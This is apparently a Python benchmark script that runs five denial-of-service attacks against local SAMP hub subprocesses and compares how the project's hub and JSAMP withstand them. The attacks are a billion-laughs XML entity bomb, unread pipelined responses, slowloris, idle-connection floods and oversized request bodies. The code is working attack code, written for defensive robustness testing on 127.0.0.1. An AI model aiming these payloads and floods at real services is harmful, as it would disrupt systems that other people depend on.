"""The same attacks against our hub and JSAMP's, side by side.

Each attack runs against a fresh hub subprocess, ours
(``jupyter_samp.testing.jupyter_samp_hub``, Standard Profile only) and
JSAMP's (``jupyter_samp.testing.jsamp_hub``, ``-profiles std``), one after the
other, on the Standard Profile XML-RPC URL from the hub's lockfile, all on
127.0.0.1 in a temporary ``HOME`` (``samp_environment``). While it runs, a
*canary* in a process of its own (two registered clients: one calls the
other with ``samp.hub.callAndWait`` in a loop, 20 ms apart) measures how well
the hub goes on serving well-behaved clients.

The attacks (``--attacks``, by letter or name):

a ``bomb``
    a "billion laughs" entity bomb (6 levels of 10 references, 4 MB of
    expansion) in the samp.name of a ``samp.hub.declareMetadata`` body,
    from a registered client: 3 sent one after the other, then 3 at once,
    again and again until the attack's time is up.
b ``unread``
    a client registers, declares 4 MiB of metadata, then pipelines 100
    ``getMetadata`` calls on each of 4 connections with a 4 KiB receive
    buffer and never reads the answers. A hub that closes such a
    connection leaves its end in ``fin-wait-1`` behind the unsent data,
    while ours stays ``established``: the hub's ends are read from
    ``/proc/net/tcp``.
c ``slowloris``
    500 connections, each sending a request head one byte a second.
d ``idle``
    1,000 connections opened at once, then left idle. (For c and d, a
    connect that takes 0.9 s or more waited for a SYN retransmit: the
    hub's listen queue was full.)
e ``bodies``
    8 connections at once each post a 15 MB ``declareMetadata`` (with a
    private key no client has).

For each attack and hub the table shows what the attacker got (answers,
faults, closed connections) and when, the hub's resident memory (``VmRSS``
of the hub process, the ``java`` process for JSAMP) before the attack, at
its peak (sampled every 0.25 s) and 1 s after the attacker's sockets are
closed, the hub's open file descriptors and threads at their peak, the
canary's median and worst ``callAndWait`` round trip during the attack (a
call still unanswered when the attack ends counts with the time it has
waited, marked ``>``), and whether the hub still answers a ping afterwards
(or died, or hung).

Every attack has a time limit (``--duration``, per attack by default: 15 s
for the bomb, 35 s for the unread answers so that our hub's 30 s write
timeout can show, 20 s for slowloris and idle connections, 60 s for the
bodies); every hub, canary and socket is closed when its block exits, also
on errors and Ctrl-C.

Run::

    python benchmarks/attack_compare.py                   # everything, about 4 minutes
    python benchmarks/attack_compare.py --quick           # shorter windows, about 2.5 minutes
    python benchmarks/attack_compare.py --attacks a,slowloris --hubs ours
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import socket
import statistics
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from _common import HUB_LABELS, banner, note, table

from jupyter_samp.core.xmlrpc import Fault, decode_response, encode_call
from jupyter_samp.testing import (
    PeerProcess,
    RunningHub,
    jsamp_hub,
    jupyter_samp_hub,
    ping_hub,
    samp_environment,
)
from jupyter_samp.testing.env import SampEnvironment
from jupyter_samp.testing.peers import package_env
from jupyter_samp.transport.http import HttpPool
from jupyter_samp.transport.xmlrpc import xmlrpc_call

HUBS = ("ours", "jsamp")
CANARY_MTYPE = "bench.canary"
CANARY_PACE = 0.02  # seconds between canary calls
SETTLE = 2.0  # seconds of canary calls before an attack (its baseline)
GUARD = 60.0  # seconds an attack may overrun its time before it is cancelled
TCP_STATES = {1: "established", 7: "closed", 8: "close-wait"}


# ---------------------------------------------------------------- the canary


async def canary_main(lockfile: Path) -> None:
    """Two raw clients; one calls the other with callAndWait until killed.

    Prints ``S n start`` before each call and ``E n start end status`` after
    it (``time.monotonic``, which other processes on the machine share).
    """
    from jupyter_samp.testing.rawclient import RawClient, echo_responder

    listener = await RawClient.connect(lockfile, name="canary-listener",
                                       subscriptions={CANARY_MTYPE: {}},
                                       responder=echo_responder)
    sender = await RawClient.connect(lockfile, name="canary-sender", subscriptions={})
    print("ready", flush=True)
    n = 0
    while True:
        n += 1
        message = {"samp.mtype": CANARY_MTYPE, "samp.params": {"n": str(n)}}
        start = time.monotonic()
        print(f"S {n} {start:.6f}", flush=True)
        try:
            answer = await sender.hub("callAndWait", listener.public_id, message, "60",
                                      timeout=90)
            good = answer.get("samp.status") == "samp.ok" and answer.get(
                "samp.result") == {"n": str(n)}
            status = "ok" if good else "wrong-answer"
        except Exception as exc:  # every failure is a finding, reported as such
            status = "error:" + type(exc).__name__
        end = time.monotonic()
        print(f"E {n} {start:.6f} {end:.6f} {status}", flush=True)
        await asyncio.sleep(CANARY_PACE if status == "ok" else 0.2)  # the canary's pace


@dataclass
class CanaryFigures:
    """The canary's calls that overlapped the attack."""

    calls: int = 0
    errors: int = 0
    median_ms: float | None = None
    worst_ms: float | None = None
    unfinished: bool = False  # the worst call was still waiting when the attack ended
    baseline_median_ms: float | None = None
    first_error: str = ""


def canary_figures(output: str, begin: float, end: float) -> CanaryFigures:
    """Latencies of the calls that were under way during [begin, end]."""
    done: dict[int, tuple[float, float, str]] = {}
    started: dict[int, float] = {}
    for line in output.splitlines():
        parts = line.split()
        if parts[:1] == ["S"] and len(parts) == 3:
            started[int(parts[1])] = float(parts[2])
        elif parts[:1] == ["E"] and len(parts) == 5:
            done[int(parts[1])] = (float(parts[2]), float(parts[3]), parts[4])
    figures = CanaryFigures()
    during = [(s, e, st) for s, e, st in done.values() if e >= begin and s <= end]
    before = [e - s for s, e, st in done.values() if e < begin and st == "ok"]
    latencies = [e - s for s, e, _ in during]
    figures.calls = len(during)
    errors = [st for _, _, st in during if st != "ok"]
    figures.errors = len(errors)
    figures.first_error = errors[0] if errors else ""
    waiting = [end - s for n, s in started.items() if n not in done and s <= end]
    if latencies:
        figures.median_ms = statistics.median(latencies) * 1000
        figures.worst_ms = max(latencies) * 1000
    if waiting and (figures.worst_ms is None or max(waiting) * 1000 > figures.worst_ms):
        figures.worst_ms = max(waiting) * 1000
        figures.unfinished = True
    if before:
        figures.baseline_median_ms = statistics.median(before[-50:]) * 1000
    return figures


# ---------------------------------------------------------------- the hub process


@dataclass
class Usage:
    """The hub's memory, descriptors and threads (``/proc/<pid>``)."""

    rss_mb: float | None = None
    fds: int | None = None
    threads: int | None = None


def usage(pid: int) -> Usage:
    result = Usage()
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                result.rss_mb = int(line.split()[1]) / 1024
            elif line.startswith("Threads:"):
                result.threads = int(line.split()[1])
        result.fds = len(os.listdir(f"/proc/{pid}/fd"))
    except (OSError, ValueError):
        pass
    return result


class Sampler:
    """Samples the hub's usage every ``interval`` seconds and keeps the peaks."""

    def __init__(self, pid: int, interval: float = 0.25) -> None:
        self.pid = pid
        self.interval = interval
        self.peak = Usage()
        self._task: asyncio.Task[None] | None = None

    def take(self) -> Usage:
        now = usage(self.pid)
        for name in ("rss_mb", "fds", "threads"):
            value, best = getattr(now, name), getattr(self.peak, name)
            if value is not None and (best is None or value > best):
                setattr(self.peak, name, value)
        return now

    async def _run(self) -> None:
        while True:
            self.take()
            await asyncio.sleep(self.interval)  # a periodic sample, not a synchronisation

    def __enter__(self) -> Sampler:
        self._task = asyncio.get_running_loop().create_task(self._run())
        return self

    def __exit__(self, *exc_info: Any) -> None:
        if self._task is not None:
            self._task.cancel()


def hub_context(name: str, env: SampEnvironment) -> contextlib.AbstractAsyncContextManager[
    RunningHub
]:
    if name == "ours":
        return jupyter_samp_hub(env.lockfile, home=env.home, timeout=60.0)
    if name == "jsamp":
        return jsamp_hub(env.lockfile, home=env.home, timeout=60.0)
    raise ValueError(f"unknown hub {name!r}: choose from {', '.join(HUBS)}")


# ---------------------------------------------------------------- raw sockets


@dataclass
class Target:
    """The hub under attack: its Standard Profile URL and secret."""

    url: str
    secret: str

    @property
    def address(self) -> tuple[str, int]:
        parts = urlsplit(self.url)
        return parts.hostname or "127.0.0.1", parts.port or 80

    @property
    def path(self) -> str:
        return urlsplit(self.url).path or "/"

    def request(self, body: bytes, *, close: bool = False) -> bytes:
        host, port = self.address
        head = (f"POST {self.path} HTTP/1.1\r\nHost: {host}:{port}\r\n"
                f"Content-Type: text/xml\r\nContent-Length: {len(body)}\r\n")
        if close:
            head += "Connection: close\r\n"
        return (head + "\r\n").encode("latin-1") + body


class Sockets:
    """Every socket an attack opens, all closed when the attack ends."""

    def __init__(self) -> None:
        self.open: list[socket.socket] = []

    async def connect(self, target: Target, *, rcvbuf: int | None = None,
                      timeout: float = 10.0) -> socket.socket:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.open.append(sock)
        if rcvbuf is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.setblocking(False)
        loop = asyncio.get_running_loop()
        await asyncio.wait_for(loop.sock_connect(sock, target.address), timeout)
        return sock

    def close_all(self) -> None:
        for sock in self.open:
            with contextlib.suppress(OSError):
                sock.close()
        self.open.clear()


def tcp_state(sock: socket.socket) -> str:
    """Our side's TCP state: ``established`` until the hub closes or resets."""
    try:
        info = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)
    except OSError:
        return "closed"
    state = struct.unpack("B", info[:1])[0]
    return TCP_STATES.get(state, f"state-{state}")


_HEX_STATES = {1: "established", 2: "syn-sent", 3: "syn-recv", 4: "fin-wait-1",
               5: "fin-wait-2", 6: "time-wait", 7: "close", 8: "close-wait", 9: "last-ack",
               10: "listen", 11: "closing"}


def hub_ends(hub_port: int, peer_ports: set[int]) -> dict[int, tuple[str, int]]:
    """The hub's end of our connections: peer port -> (TCP state, bytes not yet sent).

    Read from ``/proc/net/tcp`` and ``tcp6``. A hub that closes a connection
    whose peer does not read leaves its end in ``fin-wait-1`` with the
    unsent bytes (the kernel holds them, not the hub); our end stays
    ``established``, since the FIN waits behind the data, so only the hub's
    end shows the close. A connection missing here is gone altogether.
    """
    ends: dict[int, tuple[str, int]] = {}
    for name in ("tcp", "tcp6"):
        try:
            lines = Path(f"/proc/net/{name}").read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            local, remote = fields[1].rsplit(":", 1), fields[2].rsplit(":", 1)
            if int(local[1], 16) != hub_port or int(remote[1], 16) not in peer_ports:
                continue
            state = _HEX_STATES.get(int(fields[3], 16), fields[3])
            ends[int(remote[1], 16)] = (state, int(fields[4].split(":")[0], 16))
    return ends


def peek(sock: socket.socket) -> str | None:
    """What the hub did to a connection we write to: None while it waits.

    Returns ``answer <first line>`` if the hub wrote something, ``closed``
    for an orderly close, ``reset`` for a reset.
    """
    try:
        data = sock.recv(256, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        return None
    except OSError:
        return "reset"
    if not data:
        return "closed"
    return "answer " + data.split(b"\r\n", 1)[0].decode("latin-1")[:40]


def _set_once(future: asyncio.Future[None]) -> None:
    if not future.done():
        future.set_result(None)


async def send_within(sock: socket.socket, data: bytes, deadline: float) -> int:
    """Write ``data`` as far as the hub takes it before ``deadline``; the bytes written."""
    loop = asyncio.get_running_loop()
    view = memoryview(data)
    sent = 0
    while sent < len(data):
        try:
            sent += sock.send(view[sent:sent + 65536])
            continue
        except BlockingIOError:
            pass
        except OSError:
            return sent
        remaining = deadline - loop.time()
        if remaining <= 0:
            return sent
        writable: asyncio.Future[None] = loop.create_future()
        loop.add_writer(sock.fileno(), _set_once, writable)
        try:
            await asyncio.wait_for(writable, remaining)
        except asyncio.TimeoutError:
            return sent
        finally:
            loop.remove_writer(sock.fileno())
    return sent


@dataclass
class Answer:
    """One request's fate: ``kind`` (fault, result, http-NNN, closed, timeout) and its time."""

    kind: str
    seconds: float
    text: str = ""


async def exchange(target: Target, body: bytes, deadline: float) -> Answer:
    """POST ``body`` on a connection of its own and read the answer, by ``deadline``."""
    loop = asyncio.get_running_loop()
    started = loop.time()

    async def post() -> tuple[int, bytes]:
        reader, writer = await asyncio.open_connection(*target.address, limit=1 << 20)
        try:
            writer.write(target.request(body, close=True))
            await writer.drain()
            head = await reader.readuntil(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            status = int(lines[0].split()[1])
            length = next((int(line.split(":", 1)[1]) for line in lines
                           if line.lower().startswith("content-length:")), None)
            payload = await (reader.readexactly(length) if length is not None
                             else reader.read())
            return status, payload
        finally:
            writer.close()

    try:
        status, payload = await asyncio.wait_for(post(), max(0.0, deadline - started))
    except asyncio.TimeoutError:
        return Answer("timeout", loop.time() - started)
    except asyncio.IncompleteReadError:
        return Answer("closed", loop.time() - started)
    except OSError as exc:
        return Answer("closed", loop.time() - started, type(exc).__name__)
    seconds = loop.time() - started
    if status != 200:
        return Answer(f"http-{status}", seconds, payload[:80].decode("utf-8", "replace"))
    try:
        decoded = decode_response(payload)
    except Exception as exc:  # an answer that is not XML-RPC is a finding too
        return Answer("unreadable", seconds, f"{type(exc).__name__}: {exc}"[:80])
    if isinstance(decoded, Fault):
        return Answer("fault", seconds, decoded.string)
    return Answer("result", seconds, repr(decoded)[:80])


def answered(answers: list[Answer], width: int = 160) -> str:
    """``6 fault 'text...'``, one group per kind and text."""
    groups = Counter((a.kind, " ".join(a.text.split())[:width]) for a in answers)
    return "; ".join(f"{count} {kind}" + (f" {text!r}" if text else "")
                     for (kind, text), count in groups.most_common())


# ---------------------------------------------------------------- the attacks


@dataclass
class Outcome:
    """What the attacker saw."""

    summary: str
    answer_times: list[float] = field(default_factory=list)
    details: dict[str, Any] = field(default_factory=dict)


async def register(pool: HttpPool, target: Target) -> tuple[str, str]:
    reg = await xmlrpc_call(pool, target.url, "samp.hub.register", [target.secret], timeout=30)
    return reg["samp.private-key"], reg["samp.self-id"]


BOMB_LEVELS = 6  # 4-byte text, 10 references a level: 4 MB expanded
ANSWER_TIMEOUT = 10.0  # seconds a bomb may take to be answered before it counts as a timeout


def bomb_body(private_key: str) -> bytes:
    """declareMetadata whose samp.name is a billion-laughs entity (4 MB expanded)."""
    entities = "<!ENTITY l0 'lol '>" + "".join(
        f"<!ENTITY l{i} '{('&l' + str(i - 1) + ';') * 10}'>" for i in range(1, BOMB_LEVELS + 1))
    return (
        f"<?xml version='1.0'?>\n<!DOCTYPE methodCall [{entities}]>\n"
        "<methodCall><methodName>samp.hub.declareMetadata</methodName><params>"
        f"<param><value><string>{private_key}</string></value></param>"
        "<param><value><struct><member><name>samp.name</name>"
        f"<value><string>&l{BOMB_LEVELS};</string></value></member></struct></value></param>"
        "</params></methodCall>\n"
    ).encode()


async def attack_bomb(target: Target, limit: float, sockets: Sockets) -> Outcome:
    loop = asyncio.get_running_loop()
    deadline = loop.time() + limit
    pool = HttpPool()
    try:
        key, self_id = await register(pool, target)
        body = bomb_body(key)
        answers: list[Answer] = []
        # Rounds start until the time is up; each bomb may take ANSWER_TIMEOUT to be answered.
        while loop.time() < deadline and not any(a.kind == "timeout" for a in answers):
            for _ in range(3):
                answers.append(await exchange(target, body, loop.time() + ANSWER_TIMEOUT))
            answers += await asyncio.gather(*(
                exchange(target, body, loop.time() + ANSWER_TIMEOUT) for _ in range(3)))
        meta = await xmlrpc_call(pool, target.url, "samp.hub.getMetadata", [key, self_id],
                                 timeout=ANSWER_TIMEOUT)
    finally:
        pool.close()
    name = str(meta.get("samp.name", "")) if isinstance(meta, dict) else ""
    stored = (f"stored samp.name: {len(name):,} characters" if name
              else "nothing stored")
    return Outcome(f"{answered(answers)}; {stored}",
                   [a.seconds for a in answers if a.kind not in ("timeout", "closed")],
                   {"body_bytes": len(body), "expanded_bytes": 4 * 10 ** BOMB_LEVELS,
                    "stored_name_chars": len(name)})


async def attack_unread(target: Target, limit: float, sockets: Sockets) -> Outcome:
    loop = asyncio.get_running_loop()
    begin = loop.time()
    deadline = begin + limit
    pool = HttpPool()
    try:
        key, self_id = await register(pool, target)
        fat = {"samp.name": "fat", "x.padding": "p" * (4 << 20)}
        started = loop.time()
        await xmlrpc_call(pool, target.url, "samp.hub.declareMetadata", [key, fat], timeout=30)
        declared = loop.time() - started
    finally:
        pool.close()
    call = target.request(encode_call("samp.hub.getMetadata", [key, self_id]))
    conns = [await sockets.connect(target, rcvbuf=4096) for _ in range(4)]
    by_port = {s.getsockname()[1]: s for s in conns}
    ports = set(by_port)
    sent = await asyncio.gather(*(send_within(s, call * 100, deadline) for s in conns))
    dropped: dict[int, float] = {}
    ends: dict[int, tuple[str, int]] = {}
    while loop.time() < deadline:
        ends = hub_ends(target.address[1], ports)
        for port in ports:
            if port not in dropped and (ends.get(port, ("gone", 0))[0] != "established"
                                        or tcp_state(by_port[port]) == "closed"):
                dropped[port] = loop.time() - begin
        if len(dropped) == len(conns):
            break
        await asyncio.sleep(0.25)  # polling socket states
    states = Counter(state for state, _ in ends.values())
    unsent = sum(queued for _, queued in ends.values())
    if dropped:
        when = sorted(dropped.values())
        summary = (f"{len(dropped)}/4 connections closed by the hub after "
                   f"{when[0]:.1f}-{when[-1]:.1f} s")
    else:
        summary = f"4/4 connections still open after {limit:g} s"
    summary += (f"; the hub's ends: {', '.join(f'{n} {k}' for k, n in states.items()) or 'gone'}"
                f", {unsent / 1e6:.1f} MB unsent in the kernel"
                f" (declareMetadata of 4 MiB answered in {declared:.2f} s)")
    return Outcome(summary, [declared], {
        "request_bytes_written": sent, "request_bytes": len(call) * 100,
        "hub_end_states": dict(states), "hub_end_unsent_bytes": unsent,
        "dropped_after_s": sorted(dropped.values()),
    })


SLOW_HEAD = b"POST /xmlrpc HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


async def open_many(target: Target, sockets: Sockets, count: int,
                    timeout: float) -> tuple[list[socket.socket], list[float], int]:
    """Open ``count`` connections at once; the sockets, connect times, failures."""
    loop = asyncio.get_running_loop()
    times: list[float] = []

    async def one() -> socket.socket | None:
        started = loop.time()
        try:
            sock = await sockets.connect(target, timeout=timeout)
        except (OSError, asyncio.TimeoutError):
            return None
        times.append(loop.time() - started)
        return sock

    results = await asyncio.gather(*(one() for _ in range(count)))
    connected = [sock for sock in results if sock is not None]
    return connected, times, count - len(connected)


def _connect_note(times: list[float], failed: int) -> str:
    slow = sum(1 for t in times if t >= 0.9)
    text = f"slowest connect {max(times, default=0):.2f} s"
    if slow:
        text += f", {slow} took >= 0.9 s (SYN retransmitted)"
    if failed:
        text += f", {failed} failed"
    return text


async def attack_slowloris(target: Target, limit: float, sockets: Sockets) -> Outcome:
    loop = asyncio.get_running_loop()
    count = 500
    conns, connect_times, failed = await open_many(target, sockets, count, timeout=10.0)
    begin = loop.time()
    deadline = begin + limit
    ended: dict[int, tuple[float, str]] = {}
    position = 0
    while loop.time() < deadline:
        byte = SLOW_HEAD[position:position + 1] or b"a"
        position += 1
        for index, sock in enumerate(conns):
            if index in ended:
                continue
            seen = peek(sock)
            if seen is None:
                try:
                    sock.send(byte)
                except BlockingIOError:
                    pass
                except OSError:
                    seen = "reset"
            if seen is not None:
                ended[index] = (loop.time() - begin, seen)
        if len(ended) == len(conns):
            break
        await asyncio.sleep(max(0.0, begin + position - loop.time()))  # one byte a second
    for index, sock in enumerate(conns):  # what came since the last byte
        seen = peek(sock) if index not in ended else None
        if seen is not None:
            ended[index] = (loop.time() - begin, seen)
    how = Counter(kind for _, kind in ended.values())
    if ended:
        when = sorted(t for t, _ in ended.values())
        summary = (f"{len(ended)}/{len(conns)} ended by the hub after {when[0]:.1f}-"
                   f"{when[-1]:.1f} s ({', '.join(f'{n} {k}' for k, n in how.most_common())})")
    else:
        summary = f"0/{len(conns)} ended by the hub in {limit:g} s"
    summary += f"; {_connect_note(connect_times, failed)}"
    return Outcome(summary, [], {
        "connected": len(conns), "connect_failed": failed,
        "connect_max_s": max(connect_times, default=None),
        "ended": len(ended), "ended_how": dict(how),
        "ended_after_s": sorted(t for t, _ in ended.values()),
        "head_bytes_sent": position,
    })


async def attack_idle(target: Target, limit: float, sockets: Sockets) -> Outcome:
    loop = asyncio.get_running_loop()
    count = 1000
    conns, connect_times, failed = await open_many(target, sockets, count, timeout=10.0)
    begin = loop.time()
    deadline = begin + limit
    ended: dict[int, tuple[float, str]] = {}
    while loop.time() < deadline:
        for index, sock in enumerate(conns):
            if index not in ended:
                seen = peek(sock)
                if seen is not None:
                    ended[index] = (loop.time() - begin, seen)
        if len(ended) == len(conns):
            break
        await asyncio.sleep(0.5)  # polling socket states
    how = Counter(kind for _, kind in ended.values())
    summary = f"{len(conns)}/{count} connected (as the attacker sees it); "
    if ended:
        when = sorted(t for t, _ in ended.values())
        summary += (f"{len(ended)} ended by the hub after {when[0]:.1f}-{when[-1]:.1f} s "
                    f"({', '.join(f'{n} {k}' for k, n in how.most_common())})")
    else:
        summary += f"none closed by the hub in {limit:g} s"
    summary += f"; {_connect_note(connect_times, failed)}"
    return Outcome(summary, [], {
        "connected": len(conns), "connect_failed": failed,
        "connect_max_s": max(connect_times, default=None),
        "connects_over_0.9_s": sum(1 for t in connect_times if t >= 0.9),
        "ended": len(ended), "ended_how": dict(how),
    })


_LARGE_BODY: bytes | None = None


def large_body() -> bytes:
    """A 15 MB declareMetadata with a private key no client has (built once)."""
    global _LARGE_BODY
    if _LARGE_BODY is None:
        padding = {f"x.k{i}": "v" * 20 for i in range(15_000_000 // 90)}  # 88 bytes an entry
        _LARGE_BODY = encode_call("samp.hub.declareMetadata", ["no-such-key", padding])
    return _LARGE_BODY


async def attack_bodies(target: Target, limit: float, sockets: Sockets) -> Outcome:
    body = large_body()
    deadline = asyncio.get_running_loop().time() + limit
    answers = await asyncio.gather(*(exchange(target, body, deadline) for _ in range(8)))
    return Outcome(answered(answers),
                   [a.seconds for a in answers if a.kind not in ("timeout", "closed")],
                   {"body_bytes": len(body), "answers": [asdict(a) for a in answers]})


@dataclass(frozen=True)
class Attack:
    letter: str
    name: str
    title: str
    run: Callable[[Target, float, Sockets], Awaitable[Outcome]]
    duration: float
    quick_duration: float


ATTACKS = [
    Attack("a", "bomb", "billion laughs, 4 MB expansion, in declareMetadata", attack_bomb,
           15.0, 10.0),
    Attack("b", "unread", "4 MiB metadata, 100 getMetadata x 4 connections, never read",
           attack_unread, 35.0, 8.0),
    Attack("c", "slowloris", "500 heads, one byte a second", attack_slowloris, 20.0, 13.0),
    Attack("d", "idle", "1,000 idle connections", attack_idle, 20.0, 8.0),
    Attack("e", "bodies", "8 x 15 MB declareMetadata at once", attack_bodies, 60.0, 40.0),
]


# ---------------------------------------------------------------- one case


@dataclass
class Case:
    """One attack on one hub."""

    attack: str
    hub: str
    outcome: str = ""
    answer_median_s: float | None = None
    answer_max_s: float | None = None
    before: Usage = field(default_factory=Usage)
    peak: Usage = field(default_factory=Usage)
    after: Usage = field(default_factory=Usage)
    canary: CanaryFigures = field(default_factory=CanaryFigures)
    hub_after: str = ""
    attack_seconds: float = 0.0
    details: dict[str, Any] = field(default_factory=dict)


async def run_case(attack: Attack, hub_name: str, limit: float) -> Case:
    case = Case(attack.name, hub_name)
    loop = asyncio.get_running_loop()
    with samp_environment() as env:
        async with hub_context(hub_name, env) as hub:
            pid = hub.process.pid
            assert pid is not None
            target = Target(hub.url, hub.secret)
            canary_env = package_env(env.subprocess_env())
            canary = PeerProcess([sys.executable, __file__, "--canary", str(env.lockfile)],
                                 env=canary_env, name="canary")
            async with canary:
                await canary.wait_for_output(r"ready", timeout=60.0)
                await asyncio.sleep(SETTLE)  # the canary's baseline
                case.before = usage(pid)
                sockets = Sockets()
                with Sampler(pid) as sampler:
                    begin = loop.time()
                    try:
                        outcome = await asyncio.wait_for(
                            attack.run(target, limit, sockets), limit + GUARD)
                    except asyncio.TimeoutError:
                        outcome = Outcome(f"the attack did not end within {limit + GUARD:g} s")
                    except Exception as exc:  # a hub that breaks the attacker is a finding
                        outcome = Outcome(f"attack failed: {type(exc).__name__}: {exc}"[:200])
                    finally:
                        end = loop.time()
                        sampler.take()
                        sockets.close_all()
                    await asyncio.sleep(1.0)  # let the hub see the closes
                    case.after = sampler.take()
                    case.peak = sampler.peak
                case.canary = canary_figures(canary.stdout, begin, end)
            if hub.process.returncode is not None:
                case.hub_after = f"died (exit {hub.process.returncode})"
            elif await ping_hub(hub.url, timeout=5.0):
                case.hub_after = "answers ping"
            else:
                case.hub_after = "hung (no ping answer in 5 s)"
    case.outcome = outcome.summary
    case.details = outcome.details
    case.attack_seconds = end - begin
    if outcome.answer_times:
        case.answer_median_s = statistics.median(outcome.answer_times)
        case.answer_max_s = max(outcome.answer_times)
    return case


# ---------------------------------------------------------------- report


def _mb(value: float | None) -> str:
    return "-" if value is None else f"{value:.0f}"


def _ms(value: float | None) -> str:
    if value is None:
        return "-"
    return f"{value:,.0f}" if value >= 100 else f"{value:.1f}"


def report(cases: list[Case]) -> str:
    rows = []
    for case in cases:
        answer = "-"
        if case.answer_max_s is not None:
            answer = f"{case.answer_median_s:.2f} / {case.answer_max_s:.2f}"
        canary = case.canary
        worst = ("> " if canary.unfinished else "") + _ms(canary.worst_ms)
        rows.append([
            f"{case.attack} / {HUB_LABELS[case.hub]}",
            answer,
            f"{_mb(case.before.rss_mb)} / {_mb(case.peak.rss_mb)} / {_mb(case.after.rss_mb)}",
            f"{case.peak.fds or '-'} / {case.peak.threads or '-'}",
            f"{_ms(canary.baseline_median_ms)}",
            f"{_ms(canary.median_ms)} / {worst}",
            f"{canary.calls} / {canary.errors}",
            case.hub_after,
        ])
    lines = [table(["attack / hub", "answer s med/max", "RSS MB bef/peak/aft",
                    "peak fds/thr", "canary before", "canary ms med/worst",
                    "canary calls/err", "hub after"], rows), "", "outcomes:"]
    for case in cases:
        lines.append(f"  {case.attack} / {HUB_LABELS[case.hub]}: {case.outcome}")
        if case.canary.first_error:
            lines.append(f"    first canary error: {case.canary.first_error}")
    return "\n".join(lines)


def _attack(spec: str) -> Attack:
    for attack in ATTACKS:
        if spec in (attack.letter, attack.name):
            return attack
    choices = ", ".join(f"{a.letter}/{a.name}" for a in ATTACKS)
    raise argparse.ArgumentTypeError(f"unknown attack {spec!r}: choose from {choices}")


def parse_args(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--attacks", default=",".join(a.letter for a in ATTACKS),
                        help="comma-separated letters or names: "
                        + ", ".join(f"{a.letter}={a.name}" for a in ATTACKS) + " (default all)")
    parser.add_argument("--hubs", default=",".join(HUBS), help="ours, jsamp (default both)")
    parser.add_argument("--quick", action="store_true",
                        help="shorter attack windows: 8 to 13 s, 40 s for the bodies (too short "
                        "for our hub's 30 s write timeout to show)")
    parser.add_argument("--duration", type=float, default=None,
                        help="seconds per attack (default: per attack, see the module text)")
    parser.add_argument("--json", type=Path, help="write all figures to this file")
    args = parser.parse_args(argv)
    args.attacks = [_attack(spec.strip()) for spec in args.attacks.split(",") if spec.strip()]
    args.hubs = [name.strip() for name in args.hubs.split(",") if name.strip()]
    for name in args.hubs:
        if name not in HUBS:
            parser.error(f"unknown hub {name!r}: choose from {', '.join(HUBS)}")
    return args


async def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    started = time.monotonic()
    load = Path("/proc/loadavg").read_text().split()[:3]
    banner(f"attacks on the Standard Profile: {', '.join(HUB_LABELS[h] for h in args.hubs)}")
    note(f"load average at the start: {' '.join(load)}")
    cases: list[Case] = []
    for attack in args.attacks:
        limit = args.duration or (attack.quick_duration if args.quick else attack.duration)
        for hub_name in args.hubs:
            note(f"  {attack.letter} {attack.name} ({attack.title}) on {HUB_LABELS[hub_name]}, "
                 f"up to {limit:g} s ...")
            try:
                case = await run_case(attack, hub_name, limit)
            except Exception as exc:  # the hub did not start, or the canary did not
                case = Case(attack.name, hub_name, outcome=f"not run: {type(exc).__name__}: "
                            f"{str(exc)[:200]}", hub_after="-")
            note(f"    {case.outcome}; canary median {_ms(case.canary.median_ms)} ms, worst "
                 f"{_ms(case.canary.worst_ms)} ms; hub {case.hub_after}")
            cases.append(case)
    print()
    print(report(cases))
    end_load = Path("/proc/loadavg").read_text().split()[:3]
    print(f"\nRSS: VmRSS of the hub process (JSAMP: the java process) before the attack, its "
          f"peak during it, 1 s after the attacker closed its sockets. canary: callAndWait "
          f"round trips between two other clients, median over the {SETTLE:g} s before the "
          f"attack, then median/worst during it ('>': still waiting when the attack ended).")
    print(f"load average: {' '.join(load)} at the start, {' '.join(end_load)} at the end; "
          f"total time {time.monotonic() - started:.0f} s ({time.strftime('%Y-%m-%d %H:%M')})")
    if args.json is not None:
        args.json.write_text(json.dumps({
            "load_average": {"start": load, "end": end_load},
            "cases": [asdict(case) for case in cases],
        }, indent=1, default=str))
    return 0


if __name__ == "__main__":
    if sys.argv[1:2] == ["--canary"]:
        with contextlib.suppress(KeyboardInterrupt):
            asyncio.run(canary_main(Path(sys.argv[2])))
        sys.exit(0)
    sys.exit(asyncio.run(main()))
